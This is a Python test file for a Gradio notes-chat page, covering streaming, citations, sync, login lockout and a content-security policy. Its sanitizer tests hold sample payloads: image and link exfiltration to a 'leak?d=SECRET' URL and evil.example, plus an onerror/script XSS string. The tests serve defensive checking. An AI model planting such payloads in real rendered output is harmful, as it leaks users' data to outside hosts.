"""The chat page's handlers called as Gradio calls them: streaming, citation links, sync, related notes, bind rule."""

from __future__ import annotations

import socket
import threading
import time
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import gradio as gr
import httpx
import pytest
from click.testing import CliRunner

import app
from rag_app.cli import EXIT_USAGE, main
from rag_app.engine import Brain, ConfigError
from tests.conftest import free_port
from tests.doubles.openai_server import OpenAIDouble

QUESTION = "我想看哪些电影？"
MOVIES_LINK = app.obsidian_url("sample_vault", "生活/电影清单.md")


def ask(page: app.ChatPage, question: str = QUESTION, **filters: Any) -> list[tuple[str, Any]]:
    options = {"sources": [], "tags": "", "since": "", "until": ""} | filters
    return list(page.chat(question, [], options["sources"], options["tags"], options["since"], options["until"]))


def assert_cumulative(texts: list[str]) -> None:
    """Every streamed message extends the one before: Gradio replaces the bubble with each yield."""
    for before, after in zip(texts, texts[1:], strict=False):
        assert after.startswith(before), (before, after)


@pytest.fixture
def page(sample_brain: Brain) -> Iterator[app.ChatPage]:
    """Obsidian links on, as `[serve] obsidian = true` would set them."""
    chat = app.ChatPage(sample_brain, obsidian=True)
    yield chat
    chat.close()


def test_page_builds_with_every_panel(page: app.ChatPage) -> None:
    blocks = page.build()
    assert isinstance(blocks, gr.Blocks)
    labels = {getattr(block, "label", None) for block in blocks.blocks.values()}
    assert {"Sources", "Tags", "Since", "Until", "Cited note", "Answers from your notes"} <= labels
    assert r"**sample\_vault** (vault): 41 notes" in page.status()


def test_extractive_answer_streams_then_ends_with_citation_links(page: app.ChatPage) -> None:
    outputs = ask(page)
    texts = [text for text, _ in outputs]
    assert_cumulative(texts)
    final, cited = outputs[-1]
    assert final.startswith("Extractive answer")
    assert f"[电影清单]({MOVIES_LINK})" in final.split("**Sources**")[1]
    assert "vault:sample_vault/生活/电影清单.md" in cited["choices"]

    related = page.related(cited["value"])
    assert related.startswith("**Related to") and "obsidian://open?vault=sample_vault" in related


def test_llm_answer_streams_the_models_text(sample_home: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    reply = "你想看《花样年华》和《一一》[1]，都记在电影清单里。"

    def answer(body: dict[str, Any]) -> str:
        return reply if body.get("stream") else "1. 电影 想看"  # the non-streamed call asks for query variants

    with OpenAIDouble([answer]) as double:
        monkeypatch.setenv("LLM_BASE_URL", double.url)
        monkeypatch.setenv("LLM_MODEL", "qwen2.5")
        chat = app.ChatPage(Brain(sample_home), obsidian=False)
        try:
            texts = [text for text, _ in ask(chat)]
        finally:
            chat.close()
    assert_cumulative(texts)
    assert len(texts) > 2, "the answer arrived in one piece, not streamed"
    shown = reply.replace("[1]", r"\[1\]")  # brackets escaped: no link or image can form
    assert shown in texts[:-1]
    assert texts[-1].startswith(shown + "\n\n**Sources**")
    assert "**电影清单** — 生活/电影清单\\.md" in texts[-1]


def test_bad_filter_is_shown_not_raised(page: app.ChatPage) -> None:
    shown = ask(page, since="last spring")[-1][0]
    assert shown.startswith("⚠️") and "must be a date" in shown


def test_citation_links_per_source_kind() -> None:
    memo = {"n": 1, "note_id": "memos:abc", "title": "[draft] a (b)", "url": "https://m.example/m/abc",
            "excerpt": "x", "strength": "strong"}
    note = {"n": 2, "note_id": "vault:My Notes/a b/c.md", "title": "C", "path": "a b/c.md", "excerpt": "",
            "strength": "weak"}
    assert app.note_link(memo, obsidian=False) == r"[\[draft\] a \(b\)](https://m.example/m/abc)"
    assert app.note_link(note, obsidian=False) == r"**C** — a b/c\.md"
    assert app.note_link(note, obsidian=True) == r"[C](obsidian://open?vault=My%20Notes&file=a%20b%2Fc.md) — a b/c\.md"
    shown = app.citations_markdown([memo, note], obsidian=False, excerpts=True)
    assert shown.splitlines()[2:] == [f"1. {app.note_link(memo, False)} · strong", "   x",
                                      f"2. {app.note_link(note, False)} · weak"]


@pytest.mark.parametrize(("written", "shown"), [
    ("ok [1]. ![c](http://127.0.0.1:9/leak?d=SECRET)", r"ok \[1\]. \!c"),
    ('<img src="http://127.0.0.1:9/leak?d=SECRET">', r'\<img src="http\://127.0.0.1:9/leak?d=SECRET">'),
    ("<IMG SRC=x onerror=alert(1)>", r"\<IMG SRC=x onerror=alert(1)>"),
    ("[more](http://evil.example/x?d=SECRET 'title')", "more"),
    ("[r][ref] ![i][ref] [^1]\n\n[ref]: http://evil.example/r", "\\[r\\]\\[ref\\] \\!\\[i\\]\\[ref\\] \\[^1\\]\n\n"
     "\\[ref\\]: http\\://evil.example/r"),
    ("see http://evil.example/x, WWW.evil.example and me@evil.example",
     r"see http\://evil.example/x, WWW\.evil.example and me\@evil.example"),
    ("<http://evil.example/auto> <!-- c --> <script>x</script>",
     r"\<http\://evil.example/auto> \<\!-- c --> \<script>x\</script>"),
    ("\\[x](http://evil.example)", "\\\\x"),
    ("# 结论\n- **粗体** _斜体_ `code` [1][2]", "# 结论\n- **粗体** _斜体_ `code` \\[1\\]\\[2\\]"),
])
def test_answers_are_shown_without_images_html_or_foreign_links(written: str, shown: str) -> None:
    assert app.safe_markdown(written) == shown


def test_only_links_to_the_cited_notes_and_their_urls_stay_links() -> None:
    allowed = {"https://status.example.com/incidents/8812", "obsidian://open?vault=v&file=a.md"}
    shown = app.safe_markdown("[状态页](https://status.example.com/incidents/8812) [笔记](obsidian://open?vault=v&file=a.md)"
                              " ![x](https://status.example.com/incidents/8812) https://status.example.com/incidents/8812."
                              " https://status.example.com/incidents/8812/../leak?d=1 [y](https://status.example.com/)",
                              allowed)
    assert shown == ("[状态页](https://status.example.com/incidents/8812) [笔记](obsidian://open?vault=v&file=a.md)"
                     r" \![x](https://status.example.com/incidents/8812)"
                     r" [https\://status.example.com/incidents/8812](https://status.example.com/incidents/8812)."
                     r" https\://status.example.com/incidents/8812/../leak?d=1 y")
    assert app.urls_in("Status: https://status.example.com/incidents/8812. See (https://a.example/b)") == {
        "https://status.example.com/incidents/8812", "https://a.example/b"}


def test_an_llm_answer_links_only_to_urls_in_its_cited_notes(sample_home: Path,
                                                             monkeypatch: pytest.MonkeyPatch) -> None:
    reply = ("Timeouts came from the gateway [1]: [status page](https://status.example.com/incidents/8812). "
             "![pixel](http://127.0.0.1:9/leak?d=ERR_CONN_RESET_4471) [details](http://127.0.0.1:9/leak?d=2)")

    def answer(body: dict[str, Any]) -> str:
        return reply if body.get("stream") else "1. payment timeout"

    with OpenAIDouble([answer]) as double:
        monkeypatch.setenv("LLM_BASE_URL", double.url)
        monkeypatch.setenv("LLM_MODEL", "qwen2.5")
        chat = app.ChatPage(Brain(sample_home), obsidian=False)
        try:
            texts = [text for text, _ in ask(chat, "payment gateway timeout incident ERR_CONN_RESET_4471")]
        finally:
            chat.close()
    answer_part = texts[-1].split("\n\n**Sources**")[0]
    assert answer_part == (r"Timeouts came from the gateway \[1\]: "
                           "[status page](https://status.example.com/incidents/8812). \\!pixel details")
    assert not [text for text in texts if "http://127.0.0.1:9" in text], "a streamed piece kept a foreign link"


class RecordingBar:
    def __init__(self) -> None:
        self.calls: list[Any] = []

    def __call__(self, progress: Any, **kwargs: Any) -> None:
        self.calls.append(progress)


def test_sync_button_reports_progress_and_refreshes_status(home: Path, make_vault: Any) -> None:
    message, _, _ = app.ChatPage(Brain(home)).sync(progress=RecordingBar())
    assert message.startswith("⚠️ no sources")

    vault = make_vault({"a.md": "# A\nalpha", "b.md": "# B\nbeta"})
    with (home / "config.toml").open("a", encoding="utf-8") as config:
        config.write(f'\n[[sources]]\nname = "notes"\nkind = "vault"\npath = "{vault}"\n')
    bar = RecordingBar()
    message, status, sources = app.ChatPage(Brain(home)).sync(progress=bar)
    assert "notes (vault): 2 added" in message
    assert "**2 notes" in status and "**notes** (vault)" in status
    assert sources["choices"] == ["notes"]
    assert bar.calls[0] == (0, bar.calls[-2][1]) and bar.calls[-1] is None


def test_public_bind_needs_a_login(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.delenv("BRAIN_UI_USER", raising=False)
    monkeypatch.delenv("BRAIN_UI_PASSWORD", raising=False)
    assert app.ui_auth("127.0.0.1") is None
    with pytest.raises(ConfigError, match="BRAIN_UI_USER and BRAIN_UI_PASSWORD"):
        app.ui_auth("0.0.0.0")
    result = CliRunner().invoke(main, ["--home", str(tmp_path), "serve", "--host", "0.0.0.0", "--port", "7999"])
    assert result.exit_code == EXIT_USAGE
    assert "would put your notes on the network" in result.output

    monkeypatch.setenv("BRAIN_UI_USER", "me")
    monkeypatch.setenv("BRAIN_UI_PASSWORD", "secret")
    assert app.ui_auth("0.0.0.0") == ("me", "secret")


@pytest.fixture
def started(home: Path) -> Iterator[Any]:
    """`started(host, auth)` starts the page in this process and returns its URL; stopped after the test."""
    pages: list[tuple[app.ChatPage, gr.Blocks]] = []

    def start(host: str = "127.0.0.1", auth: tuple[str, str] | None = None) -> str:
        chat = app.ChatPage(Brain(home))
        try:
            page, url = app.start_page(chat, host, free_port(), auth)
        except BaseException:
            chat.close()
            raise
        pages.append((chat, page))
        return url

    yield start
    for chat, page in pages:
        page.close()
        chat.close()


def test_the_page_forbids_third_party_images_scripts_and_requests(started: Any) -> None:
    response = httpx.get(started())
    assert response.status_code == 200
    policy = dict(part.strip().split(" ", 1) for part in response.headers["content-security-policy"].split(";"))
    for directive in ("img-src", "script-src", "connect-src", "default-src", "style-src", "font-src"):
        assert "http" not in policy[directive] and "*" not in policy[directive], directive
        assert policy[directive].startswith("'self'")
    assert policy["frame-ancestors"] == "'none'" and policy["object-src"] == "'none'"
    assert response.headers["referrer-policy"] == "no-referrer"


def test_logins_slow_down_after_five_wrong_passwords(started: Any, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(app, "LOGIN_LOCKOUT_SECONDS", 1.0)
    url = started(auth=("me", "right-password-1"))

    def login(password: str) -> httpx.Response:
        return httpx.post(f"{url}login", data={"username": "me", "password": password})

    assert [login("guess").status_code for _ in range(5)] == [400] * 5
    refused = login("right-password-1")
    assert refused.status_code == 429 and refused.headers["retry-after"] == "1"
    assert "content-security-policy" in refused.headers
    time.sleep(1.1)
    assert login("guess").status_code == 400  # the sixth wrong try: locked again, now for twice as long
    time.sleep(1.1)
    assert login("right-password-1").status_code == 429
    time.sleep(1.0)
    assert login("right-password-1").status_code == 200
    assert [login("guess").status_code for _ in range(5)] == [400] * 5  # a good login starts the count again


def test_a_burst_of_parallel_guesses_gets_no_more_tries(started: Any) -> None:
    url = started(auth=("me", "right-password-1"))
    codes: list[int] = []

    def guess() -> None:
        codes.append(httpx.post(f"{url}login", data={"username": "me", "password": "guess"}).status_code)

    threads = [threading.Thread(target=guess) for _ in range(20)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    assert sorted(codes) == [400] * 5 + [429] * 15


def test_the_page_binds_ipv6_loopback(started: Any) -> None:
    url = started("::1")
    assert url.startswith("http://[::1]:")
    assert httpx.get(url).status_code == 200
    assert app.ui_auth("::1") is None and app.ui_auth("[::1]") is None


@pytest.mark.parametrize(("host", "reason"), [("192.0.2.1", "Cannot assign requested address"),
                                              ("no-such-host.invalid", "Name or service not known")])
def test_an_address_that_cannot_be_bound_is_one_line(started: Any, host: str, reason: str) -> None:
    with pytest.raises(ConfigError) as refused:
        started(host, auth=("me", "right-password-1"))
    assert str(refused.value).startswith(f"cannot listen on {host} port ") and str(refused.value).endswith(reason)
    assert "\n" not in str(refused.value)


def test_brain_serve_on_a_busy_port_says_so_in_one_line(tmp_path: Path) -> None:
    with socket.socket() as busy:
        busy.bind(("127.0.0.1", 0))
        busy.listen()
        port = busy.getsockname()[1]
        result = CliRunner().invoke(main, ["--home", str(tmp_path), "serve", "--port", str(port)])
    assert result.exit_code == EXIT_USAGE
    assert result.output.strip() == f"brain: cannot listen on 127.0.0.1 port {port}: Address already in use"
